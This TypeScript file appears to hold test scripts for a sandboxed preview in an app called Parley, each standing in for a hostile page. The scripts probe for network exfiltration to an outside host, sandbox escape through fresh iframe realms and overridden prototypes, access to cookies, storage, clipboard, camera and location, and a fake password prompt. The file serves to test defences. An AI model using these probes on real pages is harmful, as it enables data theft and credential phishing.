/** Scripts that a hostile page runs in a preview: bodies of an asynchronous function that gives what each try came to. */

/** Every way that is known to reach another site, and Parley. Tells of each whether it was refused. */
export const networkAttack = (stranger: string, own: string): string => `
      const url = "http://${stranger}/", told = {};
      const tries = {
        fetch: () => fetch(url + "fetch", { mode: "no-cors" }),
        own: () => fetch("${own}/api/config"),
        xhr: () => new Promise((done, fail) => { const x = new XMLHttpRequest(); x.onload = done; x.onerror = fail; x.open("GET", url + "xhr"); x.send(); }),
        socket: () => new Promise((done, fail) => { const s = new WebSocket("ws://${stranger}/socket"); s.onopen = done; s.onerror = fail; }),
        events: () => new Promise((done, fail) => { const s = new EventSource(url + "events"); s.onopen = done; s.onerror = fail; }),
        image: () => new Promise((done, fail) => { const i = new Image(); i.onload = done; i.onerror = fail; i.src = url + "image"; }),
        script: () => new Promise((done, fail) => { const s = document.createElement("script"); s.onload = done; s.onerror = fail; s.src = url + "script"; document.head.append(s); }),
        module: () => import(url + "module"),
        beacon: () => { navigator.sendBeacon(url + "beacon"); throw 0; /* It says true for what is not sent. */ },
        worker: () => new Promise((done, fail) => { const w = new Worker(URL.createObjectURL(new Blob(["postMessage(1)"]))); w.onmessage = done; w.onerror = fail; }),
        service: () => navigator.serviceWorker.register("/boot.js"),
        peers: () => { new RTCPeerConnection({ iceServers: [{ urls: "stun:${stranger}" }] }); },
        transport: () => new WebTransport("https://${stranger}/"),
        font: () => new FontFace("x", "url(" + url + "font)").load(),
      };
      for (const [name, attempt] of Object.entries(tries)) {
        try { await attempt(); told[name] = "done"; } catch { told[name] = "refused"; }
      }
      document.body.insertAdjacentHTML("beforeend", \`
        <style>@import url(\${url}import); h1 { background: url(\${url}css) }</style>
        <link rel="stylesheet" href="\${url}sheet"><link rel="prefetch" href="\${url}prefetch"><link rel="preconnect" href="\${url}"><link rel="dns-prefetch" href="\${url}">
        <video src="\${url}video" poster="\${url}poster"></video><object data="\${url}object"></object><embed src="\${url}embed"><iframe src="\${url}frame"></iframe>
        <a id="a" href="\${url}link" ping="\${url}ping" target="_blank">x</a><a id="b" href="\${url}download" download>x</a>
        <form id="f" action="\${url}form" method="post"><input name="x" value="y"></form>
        <svg><image href="\${url}svg"/><use href="\${url}use#x"/></svg>\`);
      const rules = document.createElement("script");
      rules.type = "speculationrules";
      rules.text = JSON.stringify({ prefetch: [{ source: "list", urls: [url + "rules"], eagerness: "immediate" }], prerender: [{ source: "list", urls: [url + "render"] }] });
      document.head.append(rules);
      const refresh = document.createElement("meta");
      refresh.httpEquiv = "refresh"; refresh.content = "0; url=" + url + "refresh";
      document.getElementById("a").click();
      document.getElementById("f").submit();
      told.popup = window.open(url + "popup") ? "done" : "refused";
      told.elements = document.querySelectorAll("iframe, link, object, embed").length + "";
      await new Promise((done) => setTimeout(done, 500));
      setTimeout(() => { document.getElementById("b").click(); document.head.append(refresh); location.href = url + "away"; }, 200);
      return told;`;

/** Ways to a document or a realm in which what was taken away is still there. */
export const realmAttack = `
      const told = {};
      const realms = {
        create: () => document.createElement("iframe"),
        upper: () => document.createElement({ toString: (() => { let n = 0; return () => n++ ? "iframe" : "div"; })() }),
        space: () => document.createElementNS("http://www.w3.org/1999/xhtml", "x:iframe"),
        inner: () => { const d = document.createElement("div"); d.innerHTML = "<ifr" + "ame></ifr" + "ame>"; return d.firstElementChild; },
        outer: () => { const d = document.createElement("div"); const e = document.createElement("i"); d.append(e); e.outerHTML = "<IFRAME>"; return d.firstElementChild; },
        template: () => { const t = document.createElement("template"); t.innerHTML = "<iframe></iframe>"; return document.importNode(t.content, true).firstElementChild; },
        range: () => document.createRange().createContextualFragment("<iframe></iframe>").firstElementChild,
        unsafe: () => { const d = document.createElement("div"); d.setHTMLUnsafe("<iframe></iframe>"); return d.firstElementChild; },
        parser: () => new DOMParser().parseFromString("<iframe></iframe>", "text/html").querySelector("iframe"),
        xml: () => new DOMParser().parseFromString('<x:iframe xmlns:x="http://www.w3.org/1999/xhtml"/>', "application/xhtml+xml").querySelector("iframe"),
        document: () => new Document().createElementNS("http://www.w3.org/1999/xhtml", "iframe"),
        made: () => document.implementation.createDocument("http://www.w3.org/1999/xhtml", "iframe").documentElement,
        other: () => document.implementation.createHTMLDocument("x").createElement("iframe"),
        custom: () => { customElements.define("x-f", class extends HTMLIFrameElement {}, { extends: "iframe" }); return new (customElements.get("x-f"))(); },
        write: () => { const d = document.implementation.createHTMLDocument(""); d.write("<iframe></iframe>"); return d.querySelector("iframe"); },
        command: () => { document.body.contentEditable = "true"; getSelection().selectAllChildren(document.querySelector("h1")); document.execCommand("insertHTML", false, "<iframe></iframe>"); document.body.contentEditable = "inherit"; return document.querySelector("iframe"); },
      };
      RegExp.prototype.exec = () => null; String.prototype.toLowerCase = () => "div"; String.prototype.indexOf = () => -1;
      for (const [name, make] of Object.entries(realms)) {
        try {
          const element = make();
          if (!element) { told[name] = "nothing"; continue; }
          document.body.append(element);
          told[name] = element.contentWindow || window.length > 0 ? "a frame" : "nothing";
        } catch { told[name] = "nothing"; }
      }
      told.policy = window.trustedTypes ? "there" : "nothing";
      told.restored = Object.getOwnPropertyNames(window).includes("RTCPeerConnection") && window.RTCPeerConnection ? "there" : "nothing";
      return told;`;

/** Ways to Parley around the frame, to what the browser keeps, and to the person. */
export const reachAttack = `
      const told = {};
      const tries = {
        cookie: () => document.cookie, storage: () => localStorage.length, session: () => sessionStorage.length,
        database: () => new Promise((done, fail) => { const ask = indexedDB.open("x"); ask.onsuccess = done; ask.onerror = fail; }),
        caches: () => caches.keys(), parent: () => parent.document.title, top: () => top.location.href,
        navigate: () => { top.location.href = "/settings"; }, frame: () => frameElement.id,
        screen: () => document.documentElement.requestFullscreen(), clipboard: () => navigator.clipboard.readText(),
        camera: () => navigator.mediaDevices.getUserMedia({ video: true }), place: () => new Promise((done, fail) => navigator.geolocation.getCurrentPosition(done, fail)),
        notes: async () => { if (await Notification.requestPermission() !== "granted") throw 0; },
        lock: () => document.body.requestPointerLock(),
      };
      for (const [name, attempt] of Object.entries(tries)) {
        try { const value = await attempt(); told[name] = name === "frame" && value === undefined ? "refused" : "done"; } catch { told[name] = "refused"; }
      }
      told.origin = origin;
      const begin = performance.now();
      alert("Your session has ended"); confirm("Sure?"); told.prompt = prompt("Password") === null ? "refused" : "done";
      told.dialogs = performance.now() - begin < 1000 ? "refused" : "done";
      return told;`;
